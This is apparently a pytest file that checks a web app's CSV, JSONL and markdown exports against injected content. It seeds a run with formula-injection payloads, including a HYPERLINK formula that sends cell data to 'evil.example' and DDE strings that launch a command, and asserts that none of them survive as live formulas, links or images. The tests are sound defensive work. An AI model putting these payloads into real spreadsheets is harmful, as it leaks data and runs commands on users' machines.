"""Hostile answers, names and notes in all that is handed out over HTTP: no cell computes, no file is shown as a page,
and no picture or link of theirs is in what is pasted elsewhere.
"""

import csv
import io
import re
from collections.abc import Iterator

import pytest
from markdown_it import MarkdownIt
from starlette.testclient import TestClient

from fusion_ui.exchange.candidates import pasted_pool
from fusion_ui.recipes import Choices
from fusion_ui.ui.access import COOKIE
from tests.attack.conftest import Place
from tests.ui.attacks import ATTACKS

FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1", "\r=1+1", " =1+1", "＝1+1", "\ufeff=1+1", "=1+1\n\nAnswer: =1+1", '";=1+1;"', "%0A=1+1",
)  # fmt: skip
COMPUTES = re.compile(r"[\s\ufeff]*[=+\-@＝＋－＠]")
NUMBER = re.compile(r"[-+]?[0-9]+([.,][0-9]+)?")
CSV = (
    "/api/exports/ratings.csv", "/api/exports/runs.csv", "/api/exports/flaws.csv", "/api/exports/bundle.csv",
    "/api/inspect/export?format=csv",
)  # fmt: skip


@pytest.fixture(scope="module")
def client(guarded: Place) -> Iterator[TestClient]:
    with TestClient(guarded.app, base_url="http://127.0.0.1") as client:
        client.cookies.set(COOKIE, guarded.people.log_in("Ann", "tide pool lantern", address="here").token)
        yield client


@pytest.fixture(scope="module")
def run_id(guarded: Place, client: TestClient) -> str:
    """A run whose prompt, answers and rating are hostile."""
    services = guarded.services

    async def begun() -> str:
        said = [*FORMULAS, *list(ATTACKS.values())[:40]]
        pool = pasted_pool(services.prompt("=1+1 ![p](https://evil.example/p.png)"), "\n---\n".join(said))
        started = await services.compare_recorded(pool, Choices())
        await services.desk.finished(started)
        return started

    assert client.portal is not None
    begun_id = str(client.portal.call(begun))
    rating = {"key": "press-0001", "preferred": "tie", "note": FORMULAS[0], "rater": "@Bo"}
    assert client.post(f"/api/runs/{begun_id}/ratings", json=rating).status_code == 200
    client.get("/api/inspect/cases")  # which indexes what is new
    return begun_id


@pytest.mark.parametrize("path", CSV)
def test_no_cell_of_any_table_computes(client: TestClient, run_id: str, path: str) -> None:
    reply = client.get(path, params={"run": run_id} if "exports" in path else None)
    assert reply.status_code == 200, reply.text
    rows = list(csv.reader(io.StringIO(reply.content.decode("utf-8-sig"), newline=""), strict=True))
    assert len(rows) >= (1 if "flaws" in path else 2)
    computing = [cell for row in rows for cell in row if COMPUTES.match(cell) and not NUMBER.fullmatch(cell)]
    assert computing == []


@pytest.mark.parametrize("path", [*CSV, "/api/exports/runs.jsonl", "/api/exports/bundle.jsonl"])
def test_what_is_handed_out_is_kept_and_not_shown(client: TestClient, run_id: str, path: str) -> None:
    reply = client.get(path, params={"run": run_id} if "exports" in path else None)
    assert reply.headers["content-disposition"].startswith("attachment; filename=")
    assert "html" not in reply.headers["content-type"]
    assert reply.headers["x-content-type-options"] == "nosniff"


def test_a_copy_in_markdown_loads_nothing_and_links_nowhere(client: TestClient, run_id: str) -> None:
    reply = client.get(f"/api/inspect/runs/{run_id}/copy")
    assert reply.headers["content-type"].startswith("text/markdown")
    assert "evil.example" in reply.text
    flat = [part for token in MarkdownIt("commonmark").parse(reply.text) for part in (token, *(token.children or ()))]
    kinds = {part.type for part in flat}
    assert {"fence", "code_inline"} <= kinds
    assert not kinds & {"image", "link_open", "html_block", "html_inline"}


@pytest.mark.parametrize("what", ["raw", "flaws", "contested", ""])
def test_what_a_page_is_told_is_json_and_no_page(client: TestClient, run_id: str, what: str) -> None:
    reply = client.get(f"/api/inspect/runs/{run_id}/{what}".rstrip("/"))
    assert (reply.status_code, reply.headers["content-type"].split(";")[0]) == (200, "application/json")
